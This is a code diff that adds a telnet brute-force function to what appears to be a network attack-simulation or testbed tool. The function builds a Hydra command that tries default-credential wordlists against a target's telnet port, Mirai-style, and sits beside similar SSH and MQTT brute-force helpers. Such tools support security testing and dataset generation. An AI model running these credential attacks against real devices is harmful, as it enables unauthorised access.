@@ -192,6 +192,20 @@ def _ssh_bruteforce(s: Scenario, ctx: AttackContext, packets: int) -> ToolRun:
     return ToolRun(argv, timeout_s=limit, cwd=ctx.workdir)
 
 
+def _telnet_bruteforce(s: Scenario, ctx: AttackContext, packets: int) -> ToolRun:
+    """Mirai-style: default credentials against telnet, several connections at once."""
+    t = ctx.topology
+    attempts = units(s, packets, 4, 600)
+    users, passwords = wordlists(ctx, attempts, "telnet")
+    limit = time_limit(ctx, 120)
+    argv = [
+        "hydra", "-L", str(users), "-P", str(passwords), "-t", "6", "-w", "10", "-I",
+        "-o", str(ctx.workdir / "hydra-telnet-found.txt"),
+        f"telnet://{s.target_address(t)}:{t.ports.telnet}",
+    ]  # fmt: skip
+    return ToolRun(argv, timeout_s=limit, cwd=ctx.workdir)
+
+
 def _mqtt_bruteforce(s: Scenario, ctx: AttackContext, packets: int) -> ToolRun:
     t = ctx.topology
     attempts = units(s, packets, 4, 400)
